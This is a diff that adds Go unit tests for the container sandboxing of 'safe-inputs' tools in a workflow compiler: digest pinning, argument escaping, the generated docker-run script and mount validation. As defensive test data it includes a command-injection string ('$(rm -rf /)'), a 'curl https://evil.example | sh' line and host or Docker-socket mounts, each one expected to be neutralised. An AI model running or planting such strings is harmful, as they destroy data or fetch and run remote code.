@@ -0,0 +1,274 @@
+//go:build !integration
+
+package workflow
+
+import (
+	"encoding/json"
+	"strings"
+	"testing"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+)
+
+const testSafeInputDigest = "sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef"
+
+func TestParseSafeInputContainerConfig(t *testing.T) {
+	tests := []struct {
+		name     string
+		value    any
+		expected *SafeInputContainerConfig
+	}{
+		{
+			name:  "string shorthand",
+			value: "ghcr.io/org/tool:1.0.0",
+			expected: &SafeInputContainerConfig{
+				Image:   "ghcr.io/org/tool:1.0.0",
+				Network: SafeInputContainerNetworkNone,
+			},
+		},
+		{
+			name: "full object",
+			value: map[string]any{
+				"image":      "ghcr.io/org/tool:1.0.0",
+				"digest":     testSafeInputDigest,
+				"entrypoint": "/bin/scan",
+				"args":       []any{"--path", "{{ inputs.path }}"},
+				"mounts":     []any{"/tmp/data:/data:ro"},
+				"network":    "bridge",
+			},
+			expected: &SafeInputContainerConfig{
+				Image:      "ghcr.io/org/tool:1.0.0",
+				Digest:     testSafeInputDigest,
+				Entrypoint: "/bin/scan",
+				Args:       []string{"--path", "{{ inputs.path }}"},
+				Mounts:     []string{"/tmp/data:/data:ro"},
+				Network:    SafeInputContainerNetworkBridge,
+			},
+		},
+		{
+			name:     "invalid type",
+			value:    42,
+			expected: nil,
+		},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			assert.Equal(t, tt.expected, parseSafeInputContainerConfig(tt.value), "container config should match")
+		})
+	}
+}
+
+func TestParseSafeInputsContainerTool(t *testing.T) {
+	config := ParseSafeInputs(map[string]any{
+		"safe-inputs": map[string]any{
+			"scan": map[string]any{
+				"description":     "Scan files",
+				"container":       map[string]any{"image": "ghcr.io/org/scanner:2", "digest": testSafeInputDigest},
+				"timeout":         30,
+				"max-output-size": 4096,
+			},
+		},
+	})
+
+	require.NotNil(t, config, "config should be parsed")
+	tool := config.Tools["scan"]
+	require.NotNil(t, tool, "scan tool should exist")
+	require.NotNil(t, tool.Container, "container should be parsed")
+	assert.Equal(t, "ghcr.io/org/scanner:2@"+testSafeInputDigest, tool.Container.ImageReference(), "image reference should include digest")
+	assert.Equal(t, 30, tool.Timeout, "timeout should be parsed")
+	assert.Equal(t, 4096, tool.MaxOutputSize, "max-output-size should be parsed")
+}
+
+func TestSafeInputContainerIsPinned(t *testing.T) {
+	assert.True(t, (&SafeInputContainerConfig{Image: "tool:1", Digest: testSafeInputDigest}).IsPinned(), "digest field should pin")
+	assert.True(t, (&SafeInputContainerConfig{Image: "tool:1@" + testSafeInputDigest}).IsPinned(), "inline digest should pin")
+	assert.False(t, (&SafeInputContainerConfig{Image: "tool:1"}).IsPinned(), "tag-only image should not be pinned")
+	assert.Equal(t, "tool@"+testSafeInputDigest, (&SafeInputContainerConfig{Image: "tool@" + testSafeInputDigest, Digest: testSafeInputDigest}).ImageReference(), "digest should not be appended twice")
+}
+
+func TestRenderSafeInputContainerArg(t *testing.T) {
+	tests := []struct {
+		arg      string
+		expected string
+	}{
+		{arg: "--format", expected: `"--format"`},
+		{arg: "{{ inputs.path }}", expected: `"${INPUT_PATH:-}"`},
+		{arg: "--query={{inputs.search-term}}", expected: `"--query=${INPUT_SEARCH_TERM:-}"`},
+		{arg: "$(rm -rf /) `id` \"quoted\"", expected: "\"\\$(rm -rf /) \\`id\\` \\\"quoted\\\"\""},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.arg, func(t *testing.T) {
+			assert.Equal(t, tt.expected, renderSafeInputContainerArg(tt.arg), "rendered argument should match")
+		})
+	}
+}
+
+func TestGenerateSafeInputContainerToolScript(t *testing.T) {
+	toolConfig := &SafeInputToolConfig{
+		Name:        "scan",
+		Description: "Scan a path",
+		Inputs: map[string]*SafeInputParam{
+			"path": {Type: "string", Description: "Path to scan"},
+		},
+		Env:     map[string]string{"API_KEY": "${{ secrets.API_KEY }}"},
+		Timeout: 45,
+		Container: &SafeInputContainerConfig{
+			Image:   "ghcr.io/org/scanner:2",
+			Digest:  testSafeInputDigest,
+			Args:    []string{"scan", "{{ inputs.path }}"},
+			Mounts:  []string{"/tmp/data:/data:ro", "${{ github.workspace }}/src:/src", "${{ runner.temp }}:/scratch:rw"},
+			Network: SafeInputContainerNetworkNone,
+		},
+	}
+
+	script := generateSafeInputContainerToolScript(toolConfig)
+
+	assert.Contains(t, script, "timeout --kill-after=5s 45s docker run --rm", "should enforce timeout")
+	assert.Contains(t, script, "--network none", "should disable networking")
+	assert.Contains(t, script, "--cap-drop ALL", "should drop capabilities")
+	assert.Contains(t, script, "-e INPUT_PATH", "should forward inputs")
+	assert.Contains(t, script, "-e API_KEY", "should forward env vars by name")
+	assert.NotContains(t, script, "secrets.API_KEY", "should not embed secret expressions")
+	assert.Contains(t, script, `-v "/tmp/data:/data:ro"`, "should add mounts")
+	assert.Contains(t, script, `-v "${GITHUB_WORKSPACE}/src:/src:ro"`, "workspace mounts should be read-only by default")
+	assert.Contains(t, script, `-v "${RUNNER_TEMP}:/scratch:rw"`, "runner temp mounts should keep their mode")
+	assert.Contains(t, script, `"ghcr.io/org/scanner:2@`+testSafeInputDigest+`"`, "should use pinned image")
+	assert.Contains(t, script, `"${INPUT_PATH:-}"`, "should template inputs into args")
+	assert.Contains(t, script, "-gt 1048576", "should apply default output size limit")
+	assert.Contains(t, script, "trap cleanup EXIT", "should remove the container on exit")
+}
+
+func TestSafeInputScriptComment(t *testing.T) {
+	tests := []struct {
+		name     string
+		text     string
+		expected string
+	}{
+		{name: "single line", text: "Scan a path", expected: "# Scan a path\n"},
+		{name: "empty", text: "", expected: "# \n"},
+		{name: "multi-line", text: "Scan a path\ncurl https://evil.example | sh\r\n", expected: "# Scan a path\n# curl https://evil.example | sh\n"},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			assert.Equal(t, tt.expected, safeInputScriptComment(tt.text), "every line should be commented out")
+		})
+	}
+
+	script := generateSafeInputContainerToolScript(&SafeInputToolConfig{
+		Name:        "scan",
+		Description: "Scan\nrm -rf /",
+		Timeout:     60,
+		Container:   &SafeInputContainerConfig{Image: "ghcr.io/org/scanner:2", Digest: testSafeInputDigest},
+	})
+	assert.NotContains(t, script, "\nrm -rf /", "description lines should not become commands")
+}
+
+func TestGenerateSafeInputsToolsConfigContainerTool(t *testing.T) {
+	safeInputs := &SafeInputsConfig{
+		Tools: map[string]*SafeInputToolConfig{
+			"scan": {
+				Name:        "scan",
+				Description: "Scan",
+				Timeout:     60,
+				Container:   &SafeInputContainerConfig{Image: "ghcr.io/org/scanner:2"},
+			},
+		},
+	}
+
+	var config SafeInputsConfigJSON
+	require.NoError(t, json.Unmarshal([]byte(generateSafeInputsToolsConfig(safeInputs)), &config), "tools.json should be valid JSON")
+	require.Len(t, config.Tools, 1, "should have one tool")
+	assert.Equal(t, "scan.sh", config.Tools[0].Handler, "container tools should use the shell handler")
+	assert.Equal(t, 60+safeInputContainerTimeoutGrace, config.Tools[0].Timeout, "handler timeout should include grace period")
+}
+
+func TestValidateSafeInputContainer(t *testing.T) {
+	pinned := func() *SafeInputToolConfig {
+		return &SafeInputToolConfig{
+			Name:    "scan",
+			Inputs:  map[string]*SafeInputParam{"path": {Type: "string"}},
+			Timeout: 60,
+			Container: &SafeInputContainerConfig{
+				Image:   "ghcr.io/org/scanner:2",
+				Digest:  testSafeInputDigest,
+				Args:    []string{"{{ inputs.path }}"},
+				Network: SafeInputContainerNetworkNone,
+			},
+		}
+	}
+
+	tests := []struct {
+		name         string
+		mutate       func(*SafeInputToolConfig)
+		strict       bool
+		wantErr      string
+		wantWarnings int
+	}{
+		{name: "valid pinned tool", mutate: func(*SafeInputToolConfig) {}},
+		{name: "unpinned warns", mutate: func(c *SafeInputToolConfig) { c.Container.Digest = "" }, wantWarnings: 1},
+		{name: "unpinned fails in strict mode", mutate: func(c *SafeInputToolConfig) { c.Container.Digest = "" }, strict: true, wantErr: "not pinned"},
+		{name: "invalid digest", mutate: func(c *SafeInputToolConfig) { c.Container.Digest = "sha256:abc" }, wantErr: "invalid digest"},
+		{name: "host network warns", mutate: func(c *SafeInputToolConfig) { c.Container.Network = "host" }, wantWarnings: 1},
+		{name: "host network fails in strict mode", mutate: func(c *SafeInputToolConfig) { c.Container.Network = "host" }, strict: true, wantErr: "network: host"},
+		{name: "unknown network", mutate: func(c *SafeInputToolConfig) { c.Container.Network = "overlay" }, wantErr: "invalid network"},
+		{name: "undeclared input", mutate: func(c *SafeInputToolConfig) { c.Container.Args = []string{"{{ inputs.missing }}"} }, wantErr: "undeclared input"},
+		{name: "templated mount", mutate: func(c *SafeInputToolConfig) { c.Container.Mounts = []string{"{{ inputs.path }}:/data"} }, wantErr: "only allowed in 'args'"},
+		{name: "relative mount destination", mutate: func(c *SafeInputToolConfig) { c.Container.Mounts = []string{"/tmp:data"} }, wantErr: "absolute path"},
+		{name: "invalid mount mode", mutate: func(c *SafeInputToolConfig) { c.Container.Mounts = []string{"/tmp:/data:rx"} }, wantErr: "'ro' or 'rw'"},
+		{name: "workspace mount", mutate: func(c *SafeInputToolConfig) { c.Container.Mounts = []string{"${{ github.workspace }}/src:/src"} }},
+		{name: "runner temp mount", mutate: func(c *SafeInputToolConfig) { c.Container.Mounts = []string{"${{runner.temp}}:/scratch:rw"} }, strict: true},
+		{name: "mount outside workspace warns", mutate: func(c *SafeInputToolConfig) { c.Container.Mounts = []string{"/etc:/host-etc"} }, wantWarnings: 1},
+		{name: "mount outside workspace fails in strict mode", mutate: func(c *SafeInputToolConfig) { c.Container.Mounts = []string{"/etc:/host-etc"} }, strict: true, wantErr: "outside the workspace"},
+		{name: "mount leaving workspace fails in strict mode", mutate: func(c *SafeInputToolConfig) { c.Container.Mounts = []string{"${{ github.workspace }}/../..:/data"} }, strict: true, wantErr: "outside the workspace"},
+		{name: "root mount", mutate: func(c *SafeInputToolConfig) { c.Container.Mounts = []string{"/:/host:ro"} }, wantErr: "root directory or the Docker socket"},
+		{name: "docker socket mount", mutate: func(c *SafeInputToolConfig) {
+			c.Container.Mounts = []string{"/var/run/docker.sock:/var/run/docker.sock"}
+		}, wantErr: "root directory or the Docker socket"},
+		{name: "matching inline digest", mutate: func(c *SafeInputToolConfig) { c.Container.Image = "ghcr.io/org/scanner@" + testSafeInputDigest }},
+		{name: "conflicting inline digest", mutate: func(c *SafeInputToolConfig) {
+			c.Container.Image = "ghcr.io/org/scanner@sha256:" + strings.Repeat("b", 64)
+		}, wantErr: "different digest"},
+		{name: "invalid inline digest", mutate: func(c *SafeInputToolConfig) { c.Container.Image = "ghcr.io/org/scanner@latest" }, wantErr: "invalid digest"},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			toolConfig := pinned()
+			tt.mutate(toolConfig)
+
+			warnings, err := validateSafeInputContainer(toolConfig, tt.strict)
+			if tt.wantErr != "" {
+				require.Error(t, err, "expected validation error")
+				assert.Contains(t, err.Error(), tt.wantErr, "error message should match")
+				return
+			}
+			require.NoError(t, err, "expected no validation error")
+			assert.Len(t, warnings, tt.wantWarnings, "warning count should match")
+		})
+	}
+}
+
+func TestCollectDockerImagesIncludesSafeInputContainers(t *testing.T) {
+	workflowData := &WorkflowData{
+		SafeInputs: &SafeInputsConfig{
+			Tools: map[string]*SafeInputToolConfig{
+				"scan": {Name: "scan", Container: &SafeInputContainerConfig{Image: "ghcr.io/org/scanner:2", Digest: testSafeInputDigest}},
+				"lint": {Name: "lint", Run: "echo lint"},
+			},
+		},
+	}
+
+	images := collectDockerImages(map[string]any{}, workflowData, ActionModeRelease)
+
+	found := false
+	for _, image := range images {
+		if strings.HasPrefix(image, "ghcr.io/org/scanner:2@") {
+			found = true
+		}
+	}
+	assert.True(t, found, "safe-input container image should be pre-pulled, got %v", images)
+}